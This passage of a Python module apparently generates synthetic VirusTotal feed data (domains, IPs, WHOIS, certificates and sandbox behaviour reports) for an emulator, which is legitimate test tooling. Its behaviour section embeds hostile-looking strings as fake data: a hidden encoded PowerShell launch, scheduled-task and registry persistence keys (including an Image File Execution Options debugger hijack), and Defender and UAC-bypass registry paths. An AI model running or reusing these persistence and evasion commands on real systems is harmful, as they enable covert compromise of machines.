        "certificate_policies": ["2.23.140.1.2.1"],
        "ca_information_access": {"CA Issuers": ca_issuers, "OCSP": ocsp},
        "1.3.6.1.4.1.11129.2.4.2": _hex(rng, 64),
    }


def _certificate(rng: random.Random, host: str, ts: int) -> Obj:
    """last_https_certificate: its CRL/OCSP/CA URLs are noise the URL whitelist must drop."""
    issuer, ca_issuers, ocsp = rng.choice(CERT_ISSUERS)
    not_before = ts - rng.randint(1, 80) * DAY
    cert: Obj = {
        "size": rng.randint(1100, 1900), "version": "V3", "signature_algorithm": "sha256RSA",
        "serial_number": _hex(rng, 32), "thumbprint": _hex(rng, 40), "thumbprint_sha256": _hex(rng, 64),
        "issuer": dict(issuer), "subject": {"CN": host},
        "validity": {"not_before": _date(not_before), "not_after": _date(not_before + 90 * DAY)},
        "public_key": {"algorithm": "RSA",
                       "rsa": {"key_size": 2048, "modulus": _hex(rng, 512), "exponent": "010001"}},
        "cert_signature": {"signature_algorithm": "sha256RSA", "signature": _hex(rng, 512)},
        "extensions": _cert_extensions(rng, host, ca_issuers, ocsp),
        "tags": [],
    }
    if issuer["O"] in ("DigiCert Inc", "Amazon") or _chance(rng, 0.2):
        cert["extensions"]["crl_distribution_points"] = [f"http://crl3.digicert.com/{_hex(rng, 8)}.crl"]
    return cert


REGISTRARS = ("NameCheap, Inc.", "GoDaddy.com, LLC", "REG.RU LLC", "Alibaba Cloud Computing (Beijing) Co., Ltd.",
              "Tucows Domains Inc.", "PDR Ltd. d/b/a PublicDomainRegistry.com", "Dynadot Inc",
              "CommuniGal Communication Ltd.", "MarkMonitor Inc.", "NICENIC INTERNATIONAL GROUP CO., LIMITED")
ODD_DOMAINS = ("xn--80ak6aa92e.com", "bücher-günstig.de", "пример.рф", "EXAMPLE-Upper.COM")
JARMS = ("29d29d00029d29d21c41d41d00041d49101d6002693c68bb11aceec119f3e8",
         "27d40d40d29d40d1dc42d43d00041d4689ee210389f4f6b4b5b1b93f92252d")
RANK_SOURCES = ("Cisco Umbrella", "Majestic", "Tranco", "Cloudflare Radar", "Statvoo")
NAMESERVER_DOMAINS = ("cloudflare.com", "awsdns-11.net", "registrar-servers.com", "reg.ru")
CNAME_TARGETS = ("ghs.googlehosted.com", "proxy-ssl.webflow.com")
DOMAIN_OPTIONAL = ("categories", "popularity_ranks", "last_dns_records", "tags", "jarm", "tld")
WHOIS_TIME = "%Y-%m-%dT%H:%M:%SZ"


def _whois(domain: str, registrar: str, created: int, updated: int, nameservers: list[str]) -> str:
    lines = [f"Creation Date: {_date(created, WHOIS_TIME)}", "DNSSEC: unsigned",
             f"Domain Name: {domain.upper()}",
             "Domain Status: clientTransferProhibited https://icann.org/epp#clientTransferProhibited"]
    lines += [f"Name Server: {server.upper()}" for server in nameservers]
    lines += [f"Registrar: {registrar}", f"Registry Expiry Date: {_date(created + 3 * 365 * DAY, WHOIS_TIME)}",
              f"Updated Date: {_date(updated, WHOIS_TIME)}",
              "Registrant Country: " + ("PA" if "Namecheap" in registrar else "US")]
    return "\n".join(lines)


def _dns_records(rng: random.Random, domain: str) -> tuple[list[Obj], list[str]]:
    """A/AAAA/NS/MX/TXT/CNAME/SOA records, in VT's `last_dns_records` shape."""
    nameservers = [f"ns{index}.{rng.choice(NAMESERVER_DOMAINS + (domain,))}" for index in (1, 2)]
    records: list[Obj] = [{"type": "A", "value": _ipv4(rng), "ttl": rng.choice((60, 300, 3600))}
                          for _ in range(rng.randint(0, 4))]
    if _chance(rng, 0.3):
        records.append({"type": "AAAA", "value": _ipv6(rng), "ttl": 300})
    records += [{"type": "NS", "value": server, "ttl": 21600} for server in nameservers]
    if _chance(rng, 0.5):
        records.append({"type": "MX", "value": f"mail.{domain}", "priority": 10, "ttl": 3600})
    if _chance(rng, 0.5):
        spf_domain = rng.choice(("google.com", "mailgun.org", domain))
        records.append({"type": "TXT", "value": f"v=spf1 include:_spf.{spf_domain} ~all", "ttl": 3600})
    if _chance(rng, 0.2):
        target = rng.choice(CNAME_TARGETS + (domain + ".cdn.cloudflare.net",))
        records.append({"type": "CNAME", "value": target, "ttl": 300})
    records.append({"type": "SOA", "value": nameservers[0], "rname": f"hostmaster.{domain}",
                    "serial": rng.randint(1, 2024123199), "refresh": 10000, "retry": 2400,
                    "expire": 604800, "minimum": 1800, "ttl": 3600})
    return records, nameservers


def _popularity_ranks(rng: random.Random, ts: int) -> Obj:
    return {source: {"timestamp": ts - rng.randint(0, 3) * DAY, "rank": rng.randint(1, 1_000_000)}
            for source in _sample(rng, RANK_SOURCES, 0, 3)}


def _domain_object(rng: random.Random, batch_time: dt.datetime) -> Obj:
    ts = _epoch(batch_time)
    domain = _domain(rng, subdomain=0.25) if _chance(rng, 0.93) else rng.choice(ODD_DOMAINS)
    badness = 0.0 if _chance(rng, 0.6) else rng.uniform(0.01, 0.15)
    results, stats = _url_engine_results(rng, badness)
    registrar = rng.choice(REGISTRARS)
    created = ts - rng.randint(1, 7000) * DAY
    records, nameservers = _dns_records(rng, domain)
    attributes: Obj = {
        "last_dns_records": records, "last_dns_records_date": ts - rng.randint(0, 30) * DAY,
        "tld": domain.rsplit(".", 1)[-1].lower(), "tags": _sample(rng, ("dga", "parked", "newly-registered"), 0, 1),
        "categories": _url_categories(rng), "reputation": rng.choice((0, 0, -1, -37, 5)),
        "total_votes": _votes(rng), "last_analysis_stats": stats, "last_analysis_results": results,
        "last_analysis_date": ts + rng.randint(0, 59), "last_modification_date": ts + rng.randint(0, 59),
        "popularity_ranks": _popularity_ranks(rng, ts),
    }
    if _chance(rng, 0.9):
        updated = min(ts, created + rng.randint(0, 900) * DAY)
        attributes.update({"registrar": registrar, "creation_date": created, "last_update_date": updated,
                           "expiration_date": created + 3 * 365 * DAY, "whois_date": ts - rng.randint(0, 60) * DAY,
                           "whois": _whois(domain, registrar, created, updated, nameservers)})
    if _chance(rng, 0.7):
        attributes["last_https_certificate"] = _certificate(rng, domain, ts)
        attributes["last_https_certificate_date"] = ts - rng.randint(0, 30) * DAY
        attributes["jarm"] = rng.choice(JARMS + (_hex(rng, 62),))
    if _chance(rng, 0.3):
        attributes["favicon"] = {"dhash": _hex(rng, 16), "raw_md5": _hex(rng, 32)}
    _drop_some(rng, attributes, DOMAIN_OPTIONAL)
    return {"type": "domain", "id": domain, "links": {"self": f"{VT_API_URL}/domains/{domain}"},
            "attributes": attributes}


def _ip_whois(ip: str, owner: str, country: str, registry: str) -> str:
    handle = re.sub(r"[^a-z0-9]+", "", owner.split()[0].lower()) or "net"
    if "." in ip:
        prefix = ip.rsplit(".", 2)[0]
        net_range = f"NetRange: {prefix}.0.0 - {prefix}.255.255"
    else:
        net_range = f"inet6num: {ip.split('::')[0]}::/32"
    return "\n".join((net_range, f"NetName: {handle.upper()}-NET", f"OrgName: {owner}", f"Country: {country}",
                      f"OrgAbuseEmail: abuse@{handle}.example", f"source: {registry}"))


IP_OPTIONAL = ("network", "country", "continent", "whois", "regional_internet_registry")


def _ip_object(rng: random.Random, batch_time: dt.datetime) -> Obj:
    ts = _epoch(batch_time)
    asn, owner, prefix4, prefix6 = _network(rng)
    ipv6 = _chance(rng, 0.15)
    if ipv6:
        ip, network = f"{prefix6}::{rng.randint(1, 0xFFFF):x}", f"{prefix6}::/32"
    else:
        ip, network = f"{prefix4}.{rng.randint(0, 255)}.{rng.randint(1, 254)}", f"{prefix4}.0.0/16"
    country, continent, registry, _places = rng.choice(COUNTRIES)
    badness = 0.0 if _chance(rng, 0.6) else rng.uniform(0.01, 0.12)
    results, stats = _url_engine_results(rng, badness)
    attributes: Obj = {
        "as_owner": owner, "asn": asn, "country": country, "continent": continent, "network": network,
        "regional_internet_registry": registry, "reputation": rng.choice((0, 0, 0, -3, 1)),
        "tags": _sample(rng, ("suspicious-udp", "self-signed", "tor"), 0, 1), "total_votes": _votes(rng),
        "last_analysis_stats": stats, "last_analysis_results": results,
        "last_analysis_date": ts + rng.randint(0, 59), "last_modification_date": ts + rng.randint(0, 59),
        "whois": _ip_whois(ip, owner, country, registry), "whois_date": ts - rng.randint(0, 60) * DAY,
    }
    if _chance(rng, 0.35):
        attributes["last_https_certificate"] = _certificate(rng, _domain(rng), ts)
        attributes["last_https_certificate_date"] = ts - rng.randint(0, 30) * DAY
        attributes["jarm"] = _hex(rng, 62)
    if _chance(rng, 0.05):
        attributes.pop("as_owner")
        attributes.pop("asn")
    _drop_some(rng, attributes, IP_OPTIONAL)
    return {"type": "ip_address", "id": ip, "links": {"self": f"{VT_API_URL}/ip_addresses/{ip}"},
            "attributes": attributes}


# --------------------------------------------------------------------------------------------
# file_behaviour objects
# --------------------------------------------------------------------------------------------

MITRE = (("T1055", "Process Injection"), ("T1547.001", "Registry Run Keys / Startup Folder"),
         ("T1053.005", "Scheduled Task"), ("T1082", "System Information Discovery"),
         ("T1497", "Virtualization/Sandbox Evasion"), ("T1059.001", "PowerShell"),
         ("T1071.001", "Web Protocols"), ("T1027", "Obfuscated Files or Information"),
         ("T1112", "Modify Registry"), ("T1057", "Process Discovery"), ("T1573", "Encrypted Channel"))
SEVERITIES = ("IMPACT_SEVERITY_INFO", "IMPACT_SEVERITY_LOW", "IMPACT_SEVERITY_MEDIUM", "IMPACT_SEVERITY_HIGH")
BEHAVIOUR_TAGS = ("DETECT_DEBUG_ENVIRONMENT", "LONG_SLEEPS", "DIRECT_CPU_CLOCK_ACCESS",
                  "CHECKS_NETWORK_ADAPTERS", "RUNTIME_MODULES", "PERSISTENCE", "CALLS_WMI",
                  "CHECKS_USER_INPUT", "OBFUSCATED", "SUDO")
BEHAVIOUR_OPTIONAL = ("verdicts", "tags", "files_written", "mutexes_created", "command_executions",
                      "files_dropped", "files_deleted", "registry_keys_set", "registry_keys_deleted")
ROAMING = "C:\\Users\\user\\AppData\\Roaming"
TEMP = "C:\\Users\\user\\AppData\\Local\\Temp"
RUN_KEY = "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
USER_AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
# Where persistence lands, spelled as different sandboxes spell it, with the value written
# ({name}: the implant's name, {path}: its path).
PERSISTENCE_KEYS = (
    (RUN_KEY + "\\{name}", "{path}"),
    ("HKU\\S-1-5-21-1229272821-1563985344-1801674531-1003\\SOFTWARE\\MICROSOFT\\WINDOWS\\CURRENTVERSION"
     "\\RUN\\{name}", "{path}"),
    ("HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\{name}", "\"{path}\" /autorun"),
    ("HKLM\\System\\CurrentControlSet\\Services\\{name}\\ImagePath", "\\??\\{path}"),
    ("HKLM\\System\\CurrentControlSet\\Services\\{name}\\Start", "DWORD (0x00000002)"),
    ("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell", "explorer.exe, {path}"),
    ("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\taskmgr.exe"
     "\\Debugger", "{path}"),
    ("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\{name}\\Index",
     "DWORD (0x00000001)"),
)
# What every run touches, persistence or not.
NOISE_KEYS = (
    ("HKU\\S-1-5-21-575823232-3065301323-1442773979-1000\\Software\\Microsoft\\Windows\\CurrentVersion"
     "\\Internet Settings\\ZoneMap\\AutoDetect", "1"),
    ("HKU\\S-1-5-18\\Software\\Classes\\Local Settings\\MuiCache\\17b\\52C64B7E\\LanguageList",
     "en-US\nen\n"),
    ("HKLM\\SYSTEM\\ControlSet001\\Services\\BITS\\Performance\\PerfMMFileName", "Global\\MMF_BITS_s"),
    ("\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Time Zones"
     "\\Iran Standard Time\\TZI", None),
)
DELETED_KEYS = (
    "HKCU\\Software\\Classes\\mscfile\\shell\\open\\command",
    "HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command",
    "HKLM\\SYSTEM\\ControlSet001\\Control\\SafeBoot\\Minimal\\WinDefend",
    "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\ProxyOverride",
)
DROPPED_TYPES = {"exe": "Win32 EXE", "dll": "Win32 DLL", "ps1": "PowerShell", "lnk": "Windows shortcut"}


def _process_paths(rng: random.Random, sha256: str) -> list[str]:
    temp = f"C:\\Users\\user\\AppData\\Local\\Temp\\{sha256[:8]}.exe"
    options = (temp, f"\"{temp}\" /S", "C:\\Windows\\System32\\cmd.exe /c ping 127.0.0.1 -n 5",
               f"powershell.exe -NoP -w hidden -enc {_b64ish(rng, 40)}",
               "C:\\Windows\\SysWOW64\\WerFault.exe -u -p 4242 -s 312",
               f"schtasks.exe /create /tn Updater{rng.randint(1, 99)} /tr {temp} /sc minute",
               "C:\\Windows\\System32\\svchost.exe -k netsvcs")
    return _sample(rng, options, 1, 5)


def _files_written(rng: random.Random, noisy: bool) -> list[str]:
    written = [f"{ROAMING}\\{_hex(rng, 6)}\\{rng.choice(FILE_WORDS)}.{rng.choice(('exe', 'dat', 'tmp', 'log'))}"
               for _ in range(rng.randint(0, 8))]
    if noisy:  # a run that unpacks or caches a lot lists every file it touched
        written += [f"{TEMP}\\{_hex(rng, 8)}.tmp" for _ in range(rng.randint(90, 220))]
    return written


def _files_dropped(rng: random.Random, implant: str) -> list[Obj]:
    """Dropped files: the implant first; hashes and types are not always given (some
    sandboxes list paths only)."""
    paths = [implant] if _chance(rng, 0.5) else []
    paths += [f"%TEMP%\\{_hex(rng, 8)}.{rng.choice(tuple(DROPPED_TYPES))}" for _ in range(rng.randint(0, 4))]
    dropped: list[Obj] = []
    for path in paths:
        item: Obj = {"path": path}
        if _chance(rng, 0.85):
            item["sha256"] = _hex(rng, 64)
        if _chance(rng, 0.5):
            item["type"] = DROPPED_TYPES[path.rpartition(".")[2]]
        dropped.append(item)
    return dropped


def _registry_keys_set(rng: random.Random, implant: str, noisy: bool) -> list[Obj]:
    """Persistence keys (half of the runs) among the noise every run makes; a noisy run
    writes hundreds of tracing keys, as real ones do, and may bury the persistence among them."""
    name = implant.rsplit("\\", 1)[-1].partition(".")[0]
    keys = [{"key": key} if value is None else {"key": key, "value": value}
            for key, value in _sample(rng, NOISE_KEYS, 0, 3)]
    if _chance(rng, 0.5):
        keys += [{"key": key.format(name=name), "value": value.format(path=implant)}
                 for key, value in _sample(rng, PERSISTENCE_KEYS, 1, 2)]
    if noisy:
        keys += [{"key": f"HKLM\\Software\\Microsoft\\Tracing\\{name}_RAS{_hex(rng, 4)}\\EnableFileTracing",
                  "value": "0"} for _ in range(rng.randint(90, 220))]
    rng.shuffle(keys)
    return keys


def _files_deleted(rng: random.Random, written: list[str], implant: str) -> list[str]:
    """Clean-up: temporary files, sometimes the implant itself."""
    deleted = [f"{TEMP}\\__PSScriptPolicyTest_{_hex(rng, 8)}.ps1" for _ in range(rng.randint(0, 3))]
    deleted += _sample(rng, written, 0, 2)
    if _chance(rng, 0.2):
        deleted.append(implant)
    return deleted


def _dns_lookups(rng: random.Random, hosts: list[str]) -> list[Obj]:
    return [{"hostname": host, "resolved_ips": [_ipv4(rng)]} if _chance(rng, 0.8) else {"hostname": host}
            for host in hosts]


def _ip_traffic(rng: random.Random) -> list[Obj]:
    return [{"destination_ip": _ipv4(rng), "destination_port": rng.choice((80, 443, 8080, 4444, 53)),
             "transport_layer_protocol": rng.choice(("TCP", "UDP"))} for _ in range(rng.randint(0, 5))]


def _http_conversations(rng: random.Random, hosts: list[str]) -> list[Obj]:
    urls = [_plain_url(rng, host) for host in hosts] + _urls(rng, 0, 4)
    return [{"url": url, "request_method": rng.choice(("GET", "POST")),
             "response_status_code": rng.choice((200, 404, 302)), "request_headers": {"User-Agent": USER_AGENT}}
            for url in urls]


def _mitre_techniques(rng: random.Random) -> list[Obj]:
    return [{"id": technique, "signature_description": description, "severity": rng.choice(SEVERITIES)}
            for technique, description in _sample(rng, MITRE, 0, 6)]


def _signature_matches(rng: random.Random, family: str) -> list[Obj]:
    names = ("contain obfuscated stackstrings", "check for debugger", "persist via Run registry key",
             f"{family} config")
    return [{"id": _hex(rng, 8), "name": name, "format": rng.choice(("SIG_FORMAT_YARA", "SIG_FORMAT_CAPA")),
             "authors": ["@mr-tz"], "description": f"{name} detected"}
            for name in _sample(rng, names, 0, 3)]


def _behaviour_object(rng: random.Random, batch_time: dt.datetime, sha256: str) -> Obj:
    ts = _epoch(batch_time)
    sandbox = rng.choice(SANDBOXES)
    malicious = _chance(rng, 0.6)
    family = rng.choice(FAMILIES_WIN)
    hosts = [_domain(rng) for _ in range(rng.randint(0, 5))]
    implant = f"{ROAMING}\\{rng.choice(FILE_WORDS)}{rng.randint(1, 99)}.exe"
    noisy = _chance(rng, 0.04)
    written = _files_written(rng, noisy)
    attributes: Obj = {
        "sandbox_name": sandbox, "analysis_date": ts - rng.randint(0, 3000),
        "last_modification_date": ts + rng.randint(0, 59), "behash": _hex(rng, 32),
        "verdicts": ["MALWARE", rng.choice(("TROJAN", "RANSOM", "STEALER", "BACKDOOR"))] if malicious else [],
        "tags": _sample(rng, BEHAVIOUR_TAGS, 0, 5),
        "processes_created": _process_paths(rng, sha256),
        "command_executions": _process_paths(rng, sha256),
        "files_written": written,
        "files_dropped": _files_dropped(rng, implant),
        "files_deleted": _files_deleted(rng, written, implant),
        "registry_keys_set": _registry_keys_set(rng, implant, noisy),
        "registry_keys_deleted": _sample(rng, DELETED_KEYS, 0, 2),
        "mutexes_created": [rng.choice(("Global\\", "Local\\", "")) + _hex(rng, 16) for _ in range(rng.randint(0, 3))],
        "dns_lookups": _dns_lookups(rng, hosts),
        "ip_traffic": _ip_traffic(rng),
        "http_conversations": _http_conversations(rng, hosts),
        "mitre_attack_techniques": _mitre_techniques(rng),
        "signature_matches": _signature_matches(rng, family),
        "has_html_report": _chance(rng, 0.5), "has_pcap": _chance(rng, 0.5), "has_evtx": False, "has_memdump": False,
    }
    _drop_some(rng, attributes, BEHAVIOUR_OPTIONAL)
    if _chance(rng, 0.3):
        sigma: Obj = {}
        _sigma(rng, sigma)
        attributes["sigma_analysis_results"] = sigma["sigma_analysis_results"]
    behaviour_id = f"{sha256}_{sandbox}"
    return {"type": "file_behaviour", "id": behaviour_id,
            "links": {"self": f"{VT_API_URL}/file_behaviours/{behaviour_id}"}, "attributes": attributes}


# --------------------------------------------------------------------------------------------
# public API
# --------------------------------------------------------------------------------------------

ObjectMaker = Callable[[random.Random, dt.datetime], Obj]
OBJECT_MAKERS: dict[str, ObjectMaker] = {
    "files": _file_object,
    "urls": _url_object,
    "domains": _domain_object,
    "ip_addresses": _ip_object,
    "file_behaviours": lambda rng, batch_time: _behaviour_object(rng, batch_time, _hex(rng, 64)),
}


def generate_object(feed_name: str, rng: random.Random, batch_time: dt.datetime) -> Obj:
    """One bare VT object as it appears on a line of `feed_name`'s batch for `batch_time`."""
    return OBJECT_MAKERS[get_feed(feed_name).name](rng, batch_time.astimezone(dt.timezone.utc))


def batch_size(objects: int, rng: random.Random) -> int:
    """A minute's object count: `objects` ±20 %, never 0 unless `objects` is 0."""
    if objects <= 0:
        return 0
    return max(1, round(objects * (1 + SIZE_VARIATION * (2 * rng.random() - 1))))


def batch_seed(feed_name: str, minute_key: str, seed: int) -> str:
    """The RNG seed of one batch: a string, because `random` hashes strings with SHA-512."""
    return f"vt-emulator/{seed}/{get_feed(feed_name).name}/{minute_key}"


def generate_objects(feed_name: str, minute_key: str, seed: int, objects: int) -> list[Obj]:
    """The objects of one minute batch, in order (what `generate_batch` serialises)."""
    feed = get_feed(feed_name)
    batch_time = parse_minute_key(minute_key)
    rng = random.Random(batch_seed(feed.name, minute_key, seed))
    count = batch_size(objects, rng)
    if feed.name == "file_behaviours":
        return _behaviours(rng, batch_time, count)
    make = OBJECT_MAKERS[feed.name]
    return [make(rng, batch_time) for _ in range(count)]


def _behaviours(rng: random.Random, batch_time: dt.datetime, count: int) -> list[Obj]:
    """Sandbox reports: one file is often run in several sandboxes, so ids share a sha256."""
    objects: list[Obj] = []
    sha256 = _hex(rng, 64)
    for _ in range(count):
        if not _chance(rng, 0.35):
            sha256 = _hex(rng, 64)
        objects.append(_behaviour_object(rng, batch_time, sha256))
    return objects


def serialize_lines(objects: list[Obj]) -> bytes:
    """UTF-8 JSON lines, compact like VT's, one object per line."""
    dumps = json.JSONEncoder(ensure_ascii=False, separators=(",", ":")).encode
    return "".join(dumps(obj) + "\n" for obj in objects).encode("utf-8")


def generate_batch(feed_name: str, minute_key: str, seed: int, objects: int) -> bytes:
    """The bz2 (level 9) JSON-lines batch of `feed_name` for `minute_key`; same args, same bytes."""
    lines = serialize_lines(generate_objects(feed_name, minute_key, seed, objects))
    return bz2.compress(lines, BATCH_COMPRESSLEVEL)
